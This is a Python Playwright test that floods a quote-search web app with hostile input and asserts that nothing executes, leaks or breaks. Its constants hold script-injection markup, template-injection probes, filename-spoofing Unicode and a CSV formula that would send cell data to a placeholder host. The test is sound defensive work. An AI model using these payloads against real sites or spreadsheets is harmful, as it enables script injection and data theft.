"""Hostile words in every field, in a real browser: nothing is run, nothing is refused, nothing is torn; and in a table, no formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from urllib.parse import quote as percent
from urllib.request import urlopen

import pytest
from logging_in import PASSWORD
from page_stories import follow
from playwright.sync_api import Browser, Page
from test_browser import FAULTS, STICKING_OUT, opened, running

from search.corrections.correction import CorrectionKind
from search.model import Document, Quote, Region, Span
from search.settings import Settings
from search.storage.store import Store
from web.accounts.account_file import AccountFile

pytestmark = pytest.mark.browser

MARKUP = "\"'></textarea></title><script>owned=1</script><img src=x onerror=owned=1><style>*{width:9999px}</style>"
TEMPLATE = "{{7*7}}${7*7}{% raw %}%(num)s%s\\u003cscript>"
WIDE = "W" * 190
TURNED = "\u202egnp.exe\u2066\u2067\u200f\u0301\u0301\u0301"
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"x")'
ATTACKS = {
    "markup": f"{MARKUP} {TEMPLATE} {TURNED}",
    "formula": f"{FORMULA} {TURNED}",
    "wide": f"@SUM({WIDE} {TURNED}",
}
WIDTHS = (360, 1280)


def one_line(attack: str) -> str:
    """As much of an attack as a name may hold."""
    return "".join(letter for letter in attack if letter.isprintable())[:190]


def archive(store: Store, settings: Settings, attack: str) -> list[str]:
    """An archive whose every field is the attack, a person of that name, and what she corrected; the addresses to look at."""
    AccountFile(settings.instance).put(one_line(attack)[:60], PASSWORD)
    text = f"He said “{attack} and so on”.\n\n{attack}"
    start = len("He said “")
    document = Document(
        id="d", text=text, url="javascript:owned=1", outlet=attack, title=attack, authors=(attack,), published=attack,
        language=attack, flags=(attack,), regions=(Region(Span(len(text) - 5, len(text)), "comment", attack),),
        provenance={"outlet": attack, "published": attack},
    )  # fmt: skip
    said = Quote(
        id="q", document_id="d", text=attack, spans=(Span(start, start + len(attack)),), speaker=attack, role=attack,
        mention=attack, via=(attack, attack), outlet=attack, url="javascript:owned=1", title=attack, published=attack,
        language=attack, before=attack, after=attack, cue=attack,
    )  # fmt: skip
    store.add([(document, attack, [said]), (replace(document, id="e", text=f"{text} More."), attack, [])])
    elsewhere = replace(said, id="r", document_id="", spans=(), url=f"https://a.example/{attack}", published="2024-01-01", text=f"{attack} more")  # fmt: skip
    store.add_quotes([elsewhere])
    store.correct(CorrectionKind.SPEAKER, one_line(attack), attack, quotes=["r"], names=[f"{one_line(attack)} x"])
    store.correct(
        CorrectionKind.SAME_PERSON, one_line(attack), attack, names=[one_line(attack), f"{one_line(attack)} x"]
    )
    store.catch_up()
    typed = percent(attack)
    return [
        "/", f"/search?q={typed}", f"/search?speaker={typed}&outlet={typed}", f"/search?q={typed}&after={typed}&kind={typed}",
        f"/search?q={typed}&explain=1&not_speaker=x&lang=fa", "/quotes/q", "/quotes/r", "/documents/d#q-q", "/documents/e",
        "/speakers", f"/speakers?q={typed}", "/embed/r", f"/documents/{typed}", f"/quotes/{typed}", f"/{typed}",
        f"/login?next={typed}", f"/suggest?q={typed}", f"/search.atom?q={typed}", "/feeds/r?format=rss",
    ]  # fmt: skip


@pytest.fixture(params=ATTACKS)
def attacked(request: pytest.FixtureRequest, store: Store, settings: Settings) -> Iterator[tuple[str, str, list[str]]]:
    """The address of a server, the attack, and the paths to look at."""
    attack = ATTACKS[request.param]
    paths = archive(store, settings, attack)
    with running(settings, store) as base:
        yield base, attack, paths


def faults(page: Page, said: list[str]) -> list[str]:
    """What the attack did to the page that is open."""
    found = [line for line in said if "server responded with a status of 4" not in line]
    said.clear()
    if page.evaluate("() => typeof owned !== 'undefined'"):
        found.append("a script of the attack was run")
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 800})
        page.evaluate("() => document.querySelectorAll('details').forEach((d) => d.open = true)")
        if out := page.evaluate(STICKING_OUT):
            found.append(f"{out} px stick out at {width}")
    if page.locator("main").count():
        found += page.evaluate(FAULTS)
    return [f"{page.url[:60]}: {one[:200]}" for one in found]


def test_what_strangers_wrote_runs_nothing_tears_nothing_and_is_no_formula(
    browser: Browser, attacked: tuple[str, str, list[str]]
) -> None:
    base, attack, paths = attacked
    with opened(browser, f"{base}/about") as (page, said):
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (said.append("a dialog"), dialog.dismiss()))
        found = []
        for path in paths:
            page.goto(base + path)
            found += faults(page, said)
        page.goto(f"{base}/check")
        page.fill("textarea", f"“{attack} and so on,” said {attack}. “{attack} more,” she said.")
        follow(page.locator("main form button").first)
        found += faults(page, said)
        page.goto(f"{base}/correct/r")
        page.fill("#name", one_line(attack)[:60])
        page.fill("#password", PASSWORD)
        follow(page.locator("main form button"))
        assert page.url.endswith("/correct/r")
        found += faults(page, said)
        page.goto(f"{base}/corrections")
        assert page.locator(".made li").count() == 2
        found += faults(page, said)
        page.goto(f"{base}/add")
        upload = {"name": f"{attack[:60].replace('/', '')}.txt", "mimeType": "text/plain", "buffer": attack.encode()}
        page.set_input_files("#files", upload)
        follow(page.get_by_role("button", name="Add", exact=True))
        page.locator("#progress[data-ended='1']").wait_for()
        found += faults(page, said)
    assert found == []
    assert [url for url in asked if not url.startswith(base)] == []
    assert formulas(base) == []


def formulas(base: str) -> list[str]:
    """The cells of the table of all quotes that a spreadsheet would run."""
    with urlopen(f"{base}/api/v1/quotes.csv?kind=direct&scare=1") as answer:
        rows = list(csv.reader(io.StringIO(answer.read().decode("utf-8-sig"), newline="")))
    assert len(rows) > 2
    return [cell for row in rows for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@")]
